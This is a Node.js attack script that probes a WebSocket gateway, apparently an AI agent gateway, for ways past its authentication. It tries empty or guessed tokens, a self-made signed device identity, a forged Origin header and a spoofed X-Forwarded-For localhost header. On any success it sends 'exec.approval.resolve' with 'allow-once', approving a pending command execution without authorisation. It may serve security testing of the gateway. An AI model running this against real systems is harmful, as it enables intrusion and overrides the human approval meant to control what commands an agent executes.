// Tries to answer a card by every way in: node attack.mjs URL ID [TOKEN]. A line for each; "in" is said of one that is open.
import { createHash, generateKeyPairSync, sign } from "node:crypto";

const [url, id, token] = process.argv.slice(2);
const all = ["operator.admin", "operator.read", "operator.write", "operator.approvals", "operator.pairing"];
const { publicKey, privateKey } = generateKeyPairSync("ed25519");
const raw = publicKey.export({ type: "spki", format: "der" }).subarray(-32);
const device = createHash("sha256").update(raw).digest("hex");

function signed(client, role, scopes, auth, challenge) {
    const secret = auth.token ?? auth.deviceToken ?? auth.password ?? "";
    const text = ["v3", device, client.id, client.mode, role, scopes.join(","), challenge.ts, secret, challenge.nonce, "linux", ""];
    const signature = sign(null, Buffer.from(text.join("|")), privateKey).toString("base64url");
    return { id: device, publicKey: raw.toString("base64url"), signature, signedAt: challenge.ts, nonce: challenge.nonce };
}

function attempt(name, { clientId = "gateway-client", mode = "backend", role = "operator", scopes = all, auth = {}, known = true, headers = {} }) {
    return new Promise((done) => {
        let over = false;
        const end = (text) => {
            if (!over) done(console.log(`${name}: ${text}`));
            over = true;
        };
        const socket = new WebSocket(url, { headers });
        setTimeout(() => end("silence"), 20_000).unref();
        socket.onerror = () => end("no connection");
        socket.onclose = (event) => end(`closed ${event.code}`);
        const say = (method, params) => socket.send(JSON.stringify({ type: "req", id: method, method, params }));
        socket.onmessage = ({ data }) => {
            const frame = JSON.parse(data);
            if (frame.event === "connect.challenge") {
                const client = { id: clientId, version: "0.1.0", platform: "linux", mode };
                const params = { minProtocol: 3, maxProtocol: 4, client, role, scopes, caps: ["exec-approvals"], auth };
                if (known) params.device = signed(client, role, scopes, auth, frame.payload);
                say("connect", params);
            } else if (frame.id === "connect" && frame.ok) {
                console.log(`${name}: in, with ${frame.payload.auth.scopes}`);
                say("exec.approval.resolve", { id, decision: "allow-once" });
            } else if (frame.type === "res") {
                end(frame.ok ? "answered" : frame.error.details?.code ?? frame.error.message);
                socket.close();
            }
        };
    });
}

const page = { Origin: url.replace("ws", "http").replace(/\/$/, "") };
const auths = token ? { "the token": { token } } : {
    nothing: {}, "an empty token": { token: "" }, "a word": { token: "token" }, "an empty password": { password: "" },
    "a device token": { deviceToken: "x" }, "a bootstrap token": { bootstrapToken: "x" },
};
for (const [what, auth] of Object.entries(auths)) {
    await attempt(`a stranger with ${what}`, { auth, known: false });
    await attempt(`a device with ${what}`, { auth });
    if (token) break;
    await attempt(`a command line with ${what}`, { clientId: "cli", mode: "cli", auth });
    await attempt(`the Control UI with ${what}`, { clientId: "openclaw-control-ui", mode: "webchat", auth, headers: page });
    await attempt(`a node with ${what}`, { clientId: "node-host", mode: "node", role: "node", scopes: [], auth });
    await attempt(`a forwarded one with ${what}`, { auth, headers: { "X-Forwarded-For": "127.0.0.1" } });
}
process.exit(0);
